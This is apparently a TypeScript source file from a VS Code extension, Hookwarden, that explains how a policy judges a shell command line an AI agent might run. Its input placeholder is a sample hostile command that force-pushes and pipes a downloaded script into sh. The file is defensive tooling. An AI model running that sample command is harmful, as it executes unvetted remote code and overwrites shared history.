import * as os from 'node:os';

import * as vscode from 'vscode';

import type { CompiledPolicy } from '../../core/policy/compilePolicy';
import type { DefaultHooksProvider } from '../../core/provider/defaultHooksProvider';
import { commandLineEvent, explainCommandLine } from '../../core/provider/explainCommandLine';
import type { ShellDialect } from '../../core/reading/shell/commandLine';
import type { ReadableDocumentPort } from '../../host/documentPort';
import { primaryFolder } from '../policies/policiesInput';
import { explainDocument } from './explainDocument';
import { plainEffects } from './plainEffects';

/** What *Explain a Command Line…* needs: the window's policy provider and policy, and where to show the result. */
export interface ExplainParts {
	readonly provider: DefaultHooksProvider;
	readonly policyFor: (workspaceFolder: string | undefined) => CompiledPolicy;
	readonly documents: ReadableDocumentPort;
}

/**
 * *Explain a Command Line…*: asks for a command line (the editor's selection, if any, is the start), reads it as the
 * policy of this window reads an agent's call, and shows the result rendered: the same core `explainCommandLine` the
 * bridge's `--explain` prints. A button switches between bash and PowerShell.
 */
export async function explainACommandLine(parts: ExplainParts, given?: string): Promise<void> {
	const asked =
		given === undefined ? await askForCommandLine() : { line: given, dialect: 'bash' as const };
	if (!asked) {
		return;
	}
	const folder = primaryFolder();
	const policy = parts.policyFor(folder);
	const where = folder ?? os.homedir();
	const explanation = await explainCommandLine(
		asked.line,
		asked.dialect,
		parts.provider,
		policy,
		where,
	);
	const judged = await parts.provider.judgedEffects(
		commandLineEvent(asked.line, asked.dialect, where),
		folder,
	);
	parts.documents.show({
		key: 'explain',
		title: `Explain: ${asked.line.length > 30 ? `${asked.line.slice(0, 29)}…` : asked.line}`,
		markdown: explainDocument(asked.line, asked.dialect, explanation, plainEffects(judged)),
	});
}

function askForCommandLine(): Promise<{ line: string; dialect: ShellDialect } | undefined> {
	const selection = vscode.window.activeTextEditor?.selection;
	const selected =
		selection && !selection.isEmpty
			? vscode.window.activeTextEditor?.document.getText(selection).trim()
			: undefined;
	const box = vscode.window.createInputBox();
	let dialect: ShellDialect = 'bash';
	const toggle = () => {
		box.title = `Explain a Command Line (${dialect === 'bash' ? 'bash' : 'PowerShell'})`;
		box.buttons = [
			{
				iconPath: new vscode.ThemeIcon(
					dialect === 'bash' ? 'terminal-powershell' : 'terminal-bash',
				),
				tooltip: dialect === 'bash' ? 'Read as PowerShell' : 'Read as bash',
			},
		];
	};
	toggle();
	box.prompt =
		'A command line as an agent would run it; Hookwarden shows what it reads in it and its verdict.';
	box.placeholder = 'sudo git push -f origin main && curl https://example.com/x | sh';
	box.value = selected && !selected.includes('\n') ? selected : '';
	box.ignoreFocusOut = true;
	return new Promise((resolve) => {
		let result: { line: string; dialect: ShellDialect } | undefined;
		box.onDidTriggerButton(() => {
			dialect = dialect === 'bash' ? 'powershell' : 'bash';
			toggle();
		});
		box.onDidChangeValue((value) => {
			box.validationMessage = value.trim() === '' ? 'Type a command line.' : undefined;
		});
		box.onDidAccept(() => {
			if (box.value.trim() === '') {
				box.validationMessage = 'Type a command line.';
				return;
			}
			result = { line: box.value.trim(), dialect };
			box.hide();
		});
		box.onDidHide(() => {
			box.dispose();
			resolve(result);
		});
		box.show();
	});
}
